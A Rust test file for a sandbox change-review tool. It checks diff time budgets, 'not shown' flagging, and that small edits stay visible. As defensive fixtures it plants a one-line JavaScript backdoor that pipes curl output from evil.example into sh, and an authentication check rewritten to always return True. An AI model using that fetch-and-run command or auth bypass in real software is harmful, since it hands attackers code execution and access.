//! What one review may cost, whatever a sandbox leaves in its layer: a
//! layer of many files, each rewritten as tens of thousands of distinct
//! short lines (each a quadratic line diff: 17 s of CPU for 45,000 lines
//! in a debug build, so minutes for the layer), is reviewed within the
//! review's budget for line diffs; the files diffed past their deadline
//! say they are coarse, and those left when the budget is spent say so.
//!
//! What a review does not show is flagged (outside review 21, finding 5):
//! an edit in a file past the line bound, or in a file left when the
//! budget is spent, was shown only as "not diffed" with no flag, and a
//! token's commit applied it unseen. The line bound holds for the lines
//! that differ, between those both sides share at their start and end: a
//! one-line edit in a file of any length (up to 8 MiB) is shown exactly. The budget goes to the smallest
//! changes first, so that a flood of large files cannot push a small edit
//! out of the review.
//!
//! A review stops before its end when its caller leaves, and past its
//! bounds of entries and time, with an error saying which (a door's
//! caller asking and hanging up over and over never keeps the host's
//! threads walking for nobody).

use crate::common::TempDir;
use std::fs;
use std::time::{Duration, Instant};
use warden_workspace::textdiff::{FILE_DEADLINE, REVIEW_BUDGET};
use warden_workspace::{
    Change, Content, CreateOptions, Cut, DiffError, DiffOptions, Stop, Stopped, Store, NOT_SHOWN,
};

#[test]
fn a_layer_of_many_quadratic_files_is_reviewed_within_the_budget_and_says_what_was_cut() {
    let state = TempDir::new("cost-state");
    let real = TempDir::new("cost-real");
    let files = 14;
    for i in 0..files {
        fs::write(real.join(format!("f{i:02}.txt")), "# old\nhello\n").unwrap();
    }
    let store = Store::open(state.path()).expect("open store");
    let sb = store
        .create("t", &CreateOptions::new(real.path()))
        .expect("create sandbox");
    for i in 0..files {
        let text: String = (0..45_000).map(|n| format!("x{i}-{n}\n")).collect();
        fs::write(sb.upper().join(format!("f{i:02}.txt")), text).unwrap();
    }

    let start = Instant::now();
    let changes = sb.diff(&DiffOptions::default()).expect("diff");
    let took = start.elapsed();
    // The budget, and each file's reading, counting and patch (linear),
    // with room for a loaded host.
    let bound = REVIEW_BUDGET + FILE_DEADLINE + Duration::from_secs(8);
    assert!(took < bound, "the review took {took:?} (bound {bound:?})");
    assert_eq!(changes.len(), files);

    let (mut coarse, mut cut) = (0, 0);
    for c in &changes {
        match &c.content {
            Some(Content::Text {
                coarse: true,
                added: 45_000,
                removed: 2,
                patch: Some(_),
            }) => coarse += 1,
            Some(Content::NotDiffed {
                reason: Cut::TimeBudget,
                old_lines: 2,
                new_lines: 45_000,
                ..
            }) => cut += 1,
            other => panic!("{}: {other:?}", c.path.display()),
        }
    }
    assert!(coarse >= 1, "some files are diffed, coarsely");
    assert!(cut >= 1, "the files past the budget are left undiffed");
    // Smallest first (here, files of one size, in the order of the walk):
    // once cut, every later file too.
    let first_cut = changes
        .iter()
        .position(|c| matches!(c.content, Some(Content::NotDiffed { .. })))
        .unwrap();
    assert!(changes[first_cut..]
        .iter()
        .all(|c| matches!(c.content, Some(Content::NotDiffed { .. }))));

    // One file on its own has the whole budget again: its diff is there.
    let one = sb
        .diff(&DiffOptions {
            paths: vec![changes[first_cut].path.clone()],
            ..DiffOptions::default()
        })
        .expect("diff of one file");
    assert!(
        matches!(one[0].content, Some(Content::Text { patch: Some(_), .. })),
        "{:?}",
        one[0].content
    );
}

fn not_shown(c: &Change) -> bool {
    c.flags.iter().any(|f| f.rule == NOT_SHOWN)
}

#[test]
fn a_one_line_backdoor_in_a_file_past_the_line_bound_is_shown_exactly_and_a_rewrite_is_still_cut() {
    // Before, the line bound held for the whole file: the one-line edit of
    // a 60,000-line vendored file was "not diffed" (flagged not-shown, so
    // held back, but shown to no one). The bound holds for what differs
    // between the lines both sides share at their start and end.
    let state = TempDir::new("hidden-state");
    let real = TempDir::new("hidden-real");
    let line = |i: usize| format!("function f{i}(x){{ return x+{i}; }}\n");
    let old: String = (0..60_000).map(line).collect();
    fs::write(real.join("vendor.js"), &old).unwrap();
    fs::write(real.join("rewrite.js"), &old).unwrap();
    // Too large to be read as text at all.
    let big = "a line of a large generated file\n".repeat((9 << 20) / 33);
    fs::write(real.join("schema.txt"), &big).unwrap();
    fs::write(real.join("small.txt"), "one\n").unwrap();
    let store = Store::open(state.path()).expect("open store");
    let sb = store
        .create("t", &CreateOptions::new(real.path()))
        .expect("create sandbox");
    let backdoor = "function f29999(x){ require(\"child_process\").exec(\"curl evil.example|sh\"); return x+29999; }\n";
    fs::write(
        sb.upper().join("vendor.js"),
        old.replace(&line(29_999), backdoor),
    )
    .unwrap();
    // Every line rewritten, the same backdoor among them.
    let rewritten: String = (0..60_000)
        .map(|i| {
            if i == 29_999 {
                backdoor.to_string()
            } else {
                format!("function f{i}(y){{ return y+{i}; }}\n")
            }
        })
        .collect();
    fs::write(sb.upper().join("rewrite.js"), rewritten).unwrap();
    fs::write(
        sb.upper().join("schema.txt"),
        big.replacen("a line", "b line", 1),
    )
    .unwrap();
    fs::write(sb.upper().join("small.txt"), "two\n").unwrap();

    let changes = sb.diff(&DiffOptions::default()).expect("diff");
    let by = |name: &str| {
        changes
            .iter()
            .find(|c| c.path.to_str() == Some(name))
            .unwrap()
    };
    let vendor = by("vendor.js");
    match &vendor.content {
        Some(Content::Text {
            added: 1,
            removed: 1,
            patch: Some(p),
            coarse: false,
        }) => assert!(
            p.contains("@@ -29997,7 +29997,7 @@")
                && p.contains(&format!("\n-{}", line(29_999)))
                && p.contains(&format!("\n+{backdoor}")),
            "{p}"
        ),
        other => panic!("the one-line backdoor is not shown: {other:?}"),
    }
    assert!(!not_shown(vendor), "{:?}", vendor.flags);
    let rewrite = by("rewrite.js");
    assert!(
        matches!(
            rewrite.content,
            Some(Content::NotDiffed {
                reason: Cut::TooManyLines,
                old_lines: 60_000,
                new_lines: 60_000,
                ..
            })
        ),
        "{:?}",
        rewrite.content
    );
    assert!(not_shown(rewrite), "{:?}", rewrite.flags);
    let schema = by("schema.txt");
    assert!(matches!(schema.content, Some(Content::Binary { .. })));
    assert!(not_shown(schema), "{:?}", schema.flags);
    assert!(!not_shown(by("small.txt")), "a change shown in full");
}

#[test]
fn a_one_line_change_in_a_200000_line_file_is_reviewed_well_within_the_files_deadline() {
    let state = TempDir::new("long-state");
    let real = TempDir::new("long-real");
    let old: String = (0..200_000)
        .map(|i| format!("row {i:06} of a generated table\n"))
        .collect();
    assert!(old.len() < 8 << 20, "read as text");
    fs::write(real.join("table.txt"), &old).unwrap();
    let store = Store::open(state.path()).expect("open store");
    let sb = store
        .create("t", &CreateOptions::new(real.path()))
        .expect("create sandbox");
    fs::write(
        sb.upper().join("table.txt"),
        old.replacen("row 123456 of", "row 123456 OF", 1),
    )
    .unwrap();
    // What comparing content adds to a listing of the same layer (which
    // reads, compares, scans and hashes the file already): the best of
    // three of each, so that a loaded machine's pauses (a CI runner's
    // other tests) are not counted as the diff's.
    let best = |opts: &DiffOptions| {
        (0..3)
            .map(|_| {
                let start = Instant::now();
                let changes = sb.diff(opts).expect("diff");
                (start.elapsed(), changes)
            })
            .min_by_key(|(took, _)| *took)
            .unwrap()
    };
    let (listing, _) = best(&DiffOptions {
        content: false,
        patches: false,
        ..DiffOptions::default()
    });
    let (review, changes) = best(&DiffOptions::default());
    let took = review.saturating_sub(listing);
    eprintln!("200,000 lines, one changed: listed in {listing:?}, reviewed in {review:?}");
    match &changes[0].content {
        Some(Content::Text {
            added: 1,
            removed: 1,
            coarse: false,
            patch: Some(p),
        }) => assert!(p.contains("+row 123456 OF"), "{p}"),
        other => panic!("{other:?}"),
    }
    // The line diff itself ran within the file's deadline: its patch is
    // whole, not coarse (above; the deadline is the diff's own clock).
    // Reading both sides as text, trimming, the diff and its patch
    // together: within twice that, on a runner whose other tests share
    // its two cores (a loaded run measured 733 ms best of three; an idle
    // one 140 to 200 ms). A cost that grew with the file's length (a
    // quadratic diff: minutes) fails either way.
    assert!(took < 2 * FILE_DEADLINE, "the content took {took:?}");
}

#[test]
fn a_flood_of_large_rewrites_does_not_push_a_two_line_edit_out_of_the_review() {
    let state = TempDir::new("flood-state");
    let real = TempDir::new("flood-real");
    let files = 10;
    for i in 0..files {
        fs::write(real.join(format!("a{i}.txt")), "# old\nhello\n").unwrap();
    }
    let auth = "def check(user, pw):\n    return db.verify(user, pw)\n";
    fs::write(real.join("zz_auth.py"), auth).unwrap();
    let store = Store::open(state.path()).expect("open store");
    let sb = store
        .create("t", &CreateOptions::new(real.path()))
        .expect("create sandbox");
    for i in 0..files {
        let text: String = (0..45_000).map(|n| format!("x{i}-{n}\n")).collect();
        fs::write(sb.upper().join(format!("a{i}.txt")), text).unwrap();
    }
    fs::write(
        sb.upper().join("zz_auth.py"),
        auth.replace("db.verify(user, pw)", "True"),
    )
    .unwrap();

    let changes = sb.diff(&DiffOptions::default()).expect("diff");
    let auth = changes
        .iter()
        .find(|c| c.path.to_str() == Some("zz_auth.py"))
        .unwrap();
    match &auth.content {
        Some(Content::Text {
            patch: Some(p),
            coarse: false,
            ..
        }) => assert!(p.contains("+    return True"), "{p}"),
        other => panic!("the two-line edit is not shown: {other:?}"),
    }
    assert!(auth.flags.is_empty(), "{:?}", auth.flags);
    // The budget was spent on the flood: what it cut is flagged.
    let cut: Vec<&Change> = changes
        .iter()
        .filter(|c| matches!(c.content, Some(Content::NotDiffed { .. })))
        .collect();
    assert!(!cut.is_empty(), "the flood outlasts the budget");
    assert!(cut.iter().all(|c| not_shown(c)));
}

#[test]
fn a_review_stops_when_its_caller_leaves_or_passes_its_entries_or_its_time() {
    let state = TempDir::new("stop-state");
    let real = TempDir::new("stop-real");
    let store = Store::open(state.path()).expect("open store");
    let sb = store
        .create("t", &CreateOptions::new(real.path()))
        .expect("create sandbox");
    for d in 0..4 {
        let dir = sb.upper().join(format!("d{d}"));
        fs::create_dir_all(&dir).unwrap();
        for f in 0..50 {
            fs::write(dir.join(format!("f{f}")), "x\n").unwrap();
        }
    }
    let with = |stop: Stop| DiffOptions {
        stop,
        ..DiffOptions::default()
    };
    // Unbounded, and within its bounds: the whole layer.
    assert_eq!(sb.diff(&DiffOptions::default()).expect("diff").len(), 204);
    let roomy = Stop::default().at_most(204).within(Duration::from_secs(60));
    assert_eq!(sb.diff(&with(roomy)).expect("diff").len(), 204);
    // Past its entries: an error with its reason code, never a part of
    // the layer shown as the whole.
    let small = sb.diff(&with(Stop::default().at_most(100)));
    assert!(
        matches!(
            small,
            Err(DiffError::Stopped(Stopped::TooLarge { most: 100 }))
        ),
        "{small:?}"
    );
    let late = sb.diff(&with(Stop::default().within(Duration::ZERO)));
    match late {
        Err(DiffError::Stopped(s)) => assert_eq!(s.code(), "review_too_long"),
        other => panic!("{other:?}"),
    }
    // Its caller gone: stopped, whatever its bounds.
    let (stop, leaving) = Stop::on_leaving();
    drop(leaving);
    let left = sb.diff(&with(stop));
    assert!(
        matches!(left, Err(DiffError::Stopped(Stopped::CallerLeft))),
        "{left:?}"
    );
}
